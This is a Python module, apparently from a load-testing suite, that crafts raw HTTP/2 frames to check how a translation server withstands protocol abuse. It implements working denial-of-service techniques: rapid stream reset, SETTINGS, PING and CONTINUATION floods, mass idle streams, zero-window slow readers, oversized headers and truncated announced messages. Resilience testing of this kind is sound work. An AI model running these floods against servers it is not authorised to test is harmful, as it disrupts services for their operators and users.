"""Attacks by HTTP/2 frames that no client library would send."""

import asyncio

from hyperframe.frame import ContinuationFrame, PingFrame, RstStreamFrame, SettingsFrame

from loadtest.siege.attack import SENTENCES, Outcome, Target
from loadtest.siege.calls import STREAM_TRANSLATE, TRANSLATE, translate_request
from loadtest.siege.http2 import Connection, message_frame

HOLD_SECONDS = 2.0
"""That streams and connections are held open."""

_CANCEL = 8
_CHUNK_BYTES = 16_384


async def rapid_reset(target: Target) -> Outcome:
    """5,000 calls that are reset as soon as they are begun, three times: without a message, and with one."""
    outcome = Outcome()
    request = translate_request(SENTENCES[0])
    for has_message in (False, True, True):
        connection = await Connection.open(target)
        frames = bytearray()
        for stream_id in range(1, 10_001, 2):
            frames += connection.call_headers(stream_id, TRANSLATE)
            if has_message:
                frames += message_frame(stream_id, request)
            frames += RstStreamFrame(stream_id, error_code=_CANCEL).serialize()
        await _flood(connection, outcome, bytes(frames), "streams reset", 5000)
        await asyncio.sleep(0.5)
        await connection.close()
    return outcome


async def settings_flood(target: Target) -> Outcome:
    """20,000 SETTINGS frames, each of which wants an acknowledgement."""
    frame = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize()
    return await _flood_of(target, frame, 20_000, "SETTINGS sent")


async def ping_flood(target: Target) -> Outcome:
    """20,000 PING frames, each of which wants an acknowledgement."""
    return await _flood_of(target, PingFrame(0, opaque_data=b"flooding").serialize(), 20_000, "PING sent")


async def continuation_flood(target: Target) -> Outcome:
    """Five times a call whose headers go on for 3,000 CONTINUATION frames of 1 kB, and do not end."""
    outcome = Outcome()
    for _ in range(5):
        connection = await Connection.open(target)
        headers = connection.call_headers(1, TRANSLATE, ends_headers=False)
        frame = ContinuationFrame(1, data=literal_header("x-flood", "f" * 1000)).serialize()
        await _flood(connection, outcome, headers + frame * 3000, "CONTINUATION sent", 3000)
        await connection.close()
    return outcome


async def open_streams(target: Target) -> Outcome:
    """3,000 calls of which only the headers are sent, on 30 connections, held open."""
    outcome = Outcome()
    connections = [await Connection.open(target) for _ in range(30)]
    for connection in connections:
        await connection.send(b"".join(connection.call_headers(id_, TRANSLATE) for id_ in range(1, 200, 2)))
    for connection in connections:
        outcome.check(await connection.ping(), "a connection with 100 open streams was closed")
    await asyncio.sleep(HOLD_SECONDS)
    _count_streams(outcome, connections, 100)
    for connection in connections:
        await connection.close()
    return outcome


async def slow_readers(target: Target) -> Outcome:
    """100 streams of 8 long contents on 10 connections whose windows are 0: nothing of an answer can be sent."""
    outcome = Outcome()
    request = translate_request(*(" ".join(SENTENCES[index : index + 5]) for index in range(8)))
    connections = [await Connection.open(target, window=0) for _ in range(10)]
    for connection in connections:
        await connection.send(b"".join(connection.call(id_, STREAM_TRANSLATE, request) for id_ in range(1, 20, 2)))
    await asyncio.sleep(HOLD_SECONDS)
    _count_streams(outcome, connections, 10)
    outcome.check(not sum(connection.data_bytes for connection in connections), "data came through a window of 0")
    for connection in connections:
        await connection.close()
    return outcome


async def huge_metadata(target: Target) -> Outcome:
    """50 calls with 100 kB of metadata, a connection each."""
    outcome = Outcome()
    request = translate_request(SENTENCES[0])
    for _ in range(50):
        connection = await Connection.open(target)
        fields = [ContinuationFrame(1, data=literal_header(f"x-{index}", "m" * 10_000)) for index in range(10)]
        fields[-1].flags.add("END_HEADERS")
        headers = connection.call_headers(1, TRANSLATE, ends_headers=False)
        headers += b"".join(field.serialize() for field in fields)
        await connection.send(headers + message_frame(1, request))
        await connection.wait_ended(1)
        _count_streams(outcome, [connection], 1)
        await connection.close()
    outcome.check(not outcome.statuses["OK"], "100 kB of metadata were accepted")
    return outcome


async def announced_messages(target: Target) -> Outcome:
    """200 messages of 12 MB are announced, on 10 connections, of which 1 kB comes."""
    outcome = Outcome()
    connections = [await Connection.open(target) for _ in range(10)]
    for connection in connections:
        for stream_id in range(1, 40, 2):
            begun = message_frame(stream_id, b"\0" * 1000, announced=12_000_000, ends_stream=False)
            await connection.send(connection.call_headers(stream_id, TRANSLATE) + begun)
        outcome.check(await connection.ping(), "a connection that had sent part of its messages was closed")
    await asyncio.sleep(HOLD_SECONDS)
    _count_streams(outcome, connections, 20)
    for connection in connections:
        await connection.close()
    return outcome


async def _flood_of(target: Target, frame: bytes, number: int, what: str) -> Outcome:
    """A flood of one frame on each of three connections."""
    outcome = Outcome()
    for _ in range(3):
        connection = await Connection.open(target)
        await _flood(connection, outcome, frame * number, what, number)
        await connection.close()
    return outcome


async def _flood(connection: Connection, outcome: Outcome, frames: bytes, what: str, number: int) -> None:
    """Send all, or until the server closes the connection; either way the server has dealt with what was sent."""
    num_sent = 0
    for start in range(0, len(frames), _CHUNK_BYTES):
        if not await connection.send(frames[start : start + _CHUNK_BYTES]):
            break
        num_sent = min(start + _CHUNK_BYTES, len(frames))
    outcome.count(f"{what}, at most", round(number * num_sent / len(frames)))
    processed = await connection.ping()
    how = "all processed" if processed else "connection closed" if connection.is_closed else "not processed in time"
    outcome.statuses[how] += 1
    outcome.count("acknowledged", connection.received["Settings"] + connection.received["Ping"])
    if connection.goaway:
        outcome.count(f"GOAWAY {connection.goaway}")
    outcome.check(
        processed or connection.is_closed, "the server neither processed the frames nor closed the connection"
    )


def _count_streams(outcome: Outcome, connections: list[Connection], num_streams: int) -> None:
    """How the streams of connections are now, `num_streams` of each."""
    for connection in connections:
        if connection.is_closed:
            outcome.statuses["closed with its connection"] += num_streams
            continue
        outcome.statuses.update(connection.ended.values())
        outcome.statuses["open"] += num_streams - len(connection.ended)


def literal_header(name: str, value: str) -> bytes:
    """A field that does not enter the table of headers, in HPACK, with no Huffman code."""
    return b"\0" + _string(name.encode()) + _string(value.encode())


def _string(data: bytes) -> bytes:
    """HPACK's: a length of 7 bits and as many more as it needs, and the bytes."""
    if len(data) < 127:
        return bytes([len(data)]) + data
    rest, encoded = len(data) - 127, bytearray([127])
    while rest >= 128:
        encoded.append(rest % 128 + 128)
        rest //= 128
    return bytes([*encoded, rest]) + data
